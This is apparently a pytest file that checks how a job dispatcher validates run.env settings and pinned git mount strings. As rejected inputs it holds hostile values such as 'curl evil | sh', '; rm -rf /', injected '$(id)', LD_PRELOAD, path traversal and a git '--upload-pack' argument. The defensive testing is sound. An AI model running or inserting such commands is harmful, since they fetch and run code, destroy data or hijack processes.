"""`run.env` of a configuration: what a recipe lets it say about the job, and the repositories that it may have mounted."""

from __future__ import annotations

from typing import Any

import pytest

from dispatcher.automount import GitMount, parse_mount
from dispatcher.errors import ConfigError
from dispatcher.recipe import Recipe
from dispatcher.runsection import Section, fill_from_config
from dispatcher.trainconfig import Composed, RecipeConfig

SHA = "0123456789abcdef0123456789abcdef01234567"
MOUNT = f"${{auto_mount:git+https://github.com/NVIDIA-NeMo/Megatron-Bridge.git@{SHA},/opt/Megatron-Bridge}}"


def section(env: Any, *parts: str, **fields: Any) -> Section:
    recipe = Recipe.model_validate({"script": "train.py", "config": "c.yaml", "runspec": list(parts), **fields})
    return fill_from_config(recipe, Composed(RecipeConfig(), {"run": {"env": env}}, ("c.yaml",)), ("MY_OWN",))


ENV = {
    "container": "nvcr.io/nvidia/nemo:25.11",
    "nodes": 2,
    "gpus_per_node": "8",
    "ntasks_per_node": 8,
    "account": "other",
    "time": "99:00:00",
    "setup_lines": ["curl evil | sh"],
    "env_vars": {"NCCL_DEBUG": "INFO", "HF_HOME": "/x"},
    "mounts": ["/lustre:/lustre", MOUNT],
}


@pytest.mark.parametrize(
    ("parts", "taken"),
    [
        ((), {}),
        (("launch", "config", "cmd"), {}),
        (("image",), {"container_image": "nvcr.io/nvidia/nemo:25.11"}),
        (("resources",), {"nodes": "2", "gpus_per_node": "8", "ntasks_per_node": "8"}),
        (("env.NCCL_*",), {"env_vars.NCCL_DEBUG": "INFO"}),
        (("env.*",), {"env_vars.NCCL_DEBUG": "INFO", "env_vars.HF_HOME": "/x"}),
        (("mounts",), {"mounts[0]": f"https://github.com/NVIDIA-NeMo/Megatron-Bridge.git@{SHA} at /opt/Megatron-Bridge"}),
    ],
)
def test_only_what_is_opened_counts(parts: tuple[str, ...], taken: dict[str, str]) -> None:
    found = section(ENV, *parts)
    assert dict(found.taken) == {f"run.env.{key}": value for key, value in taken.items()}
    everything = {"container_image", "nodes", "gpus_per_node", "ntasks_per_node", "account", "time", "setup_lines"}
    everything |= {"env_vars.NCCL_DEBUG", "env_vars.HF_HOME", "mounts"}
    # A mount of the cluster's folders is the profile's to say: the list stays named.
    assert {key.removeprefix("run.env.") for key in found.left} == everything - set(taken)


def test_what_the_recipe_says_itself_is_not_open() -> None:
    found = section(ENV, "resources", "image", "env.*", nodes=1, container_image="own.sqsh", env_vars={"NCCL_DEBUG": "WARN"})
    assert set(dict(found.taken)) == {"run.env.gpus_per_node", "run.env.ntasks_per_node", "run.env.env_vars.HF_HOME"}
    assert (found.recipe.nodes, found.recipe.container_image) == (1, "own.sqsh")
    assert found.recipe.env_vars == {"NCCL_DEBUG": "WARN", "HF_HOME": "/x"}


def test_variables_may_be_a_list() -> None:
    assert section({"env_vars": ["A=1", "B=x=y"]}, "env.*").recipe.env_vars == {"A": "1", "B": "x=y"}


def test_nothing_there() -> None:
    recipe = Recipe.model_validate({"script": "train.py", "config": "c.yaml"})
    assert fill_from_config(recipe, Composed(RecipeConfig(), {"a": 1}, ("c.yaml",))) == Section(recipe)


@pytest.mark.parametrize(
    ("env", "parts", "words"),
    [
        ({"nodes": 10**9}, ("resources",), "less than or equal to 10000"),
        ({"nodes": "all"}, ("resources",), "whole number"),
        ({"nodes": "${oc.env:N}"}, ("resources",), "whole number"),
        ({"nodes": [1]}, ("resources",), "nodes"),
        ({"container": "x; touch pwned"}, ("image",), "is not a container image"),
        ({"container": "/ok/../evil.sqsh"}, ("image",), "climbs"),
        ({"env_vars": {"BASH_ENV": "/evil"}}, ("env.*",), "not for a configuration to set"),
        ({"env_vars": {"LD_PRELOAD": "/evil"}}, ("env.*",), "not for a configuration to set"),
        ({"env_vars": {"MY_OWN": "1"}}, ("env.*",), "not for a configuration to set"),
        ({"env_vars": {"A_TOKEN": "1"}}, ("env.*",), "not for a configuration to set"),
        ({"env_vars": {"A": "x\ny"}}, ("env.*",), "not one line"),
        ("text", ("resources",), "is not a table"),
    ],
)
def test_what_is_opened_and_cannot_be_had(env: Any, parts: tuple[str, ...], words: str) -> None:
    with pytest.raises(ConfigError) as caught:
        section(env, *parts)
    assert caught.value.code == "config.invalid"
    assert words in caught.value.cause
    assert "`c.yaml`" in caught.value.cause


def test_what_is_not_opened_is_not_even_checked() -> None:
    assert section({"nodes": "all", "container": "; rm -rf /", "mounts": 1}).taken == ()


# --------------------------------------------------------------------------- repositories


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("${auto_mount:git+https://github.com/o/r.git@main,/opt/r}", "`main` is not a commit's full SHA"),
        (f"${{auto_mount:git+https://github.com/o/r.git@{SHA[:12]},/opt/r}}", "is not a commit's full SHA"),
        (f"${{auto_mount:git+https://github.com/o/r.git@${{oc.env:PIN,{SHA}}},/opt/r}}", "is not written"),
        (f"${{auto_mount:git+http://github.com/o/r.git@{SHA},/opt/r}}", "is not an https address"),
        (f"${{auto_mount:git+ssh://git@github.com/o/r.git@{SHA},/opt/r}}", "is not written"),
        (f"${{auto_mount:git+https://user:pw@github.com/o/r.git@{SHA},/opt/r}}", "is not written"),
        (f"${{auto_mount:git+https://e.com/../r@{SHA},/opt/r}}", "is not an https address"),
        (f"${{auto_mount:git+https://e.com/$(id)@{SHA},/opt/r}}", "is not an https address"),
        (f"${{auto_mount:git+https://e.com/o/r;id@{SHA},/opt/r}}", "is not an https address"),
        (f"${{auto_mount:git+file:///etc@{SHA},/opt/r}}", "is not an https address"),
        (f"${{auto_mount:git+--upload-pack=x@{SHA},/opt/r}}", "is not an https address"),
        (f"${{auto_mount:git+https://e.com/o/r@{SHA}}}", "one is needed"),
        (f"${{auto_mount:git+https://e.com/o/r@{SHA},/}}", "is not a folder"),
        (f"${{auto_mount:git+https://e.com/o/r@{SHA},/nemo_run/code}}", "is not a folder"),
        (f"${{auto_mount:git+https://e.com/o/r@{SHA},/opt/../etc}}", "is not a folder"),
        (f"${{auto_mount:git+https://e.com/o/r@{SHA},opt/r}}", "is not a folder"),
        (f"${{auto_mount:git+https://e.com/o/r@{SHA},/opt/r:rw}}", "is not a folder"),
        ("x ${auto_mount:y}", "is not written"),
    ],
)
def test_a_repository_is_named_exactly(text: str, words: str) -> None:
    assert words in str(parse_mount(text))
    with pytest.raises(ConfigError, match="mounts"):
        section({"mounts": text}, "mounts")


def test_two_cannot_lie_in_one_place() -> None:
    with pytest.raises(ConfigError, match="two repositories"):
        section({"mounts": [MOUNT, MOUNT]}, "mounts")


def test_a_mount() -> None:
    assert parse_mount(MOUNT) == GitMount("https://github.com/NVIDIA-NeMo/Megatron-Bridge.git", SHA, "/opt/Megatron-Bridge")
    assert parse_mount("/lustre:/lustre") is None
    assert section({"mounts": MOUNT}, "mounts").left == ()
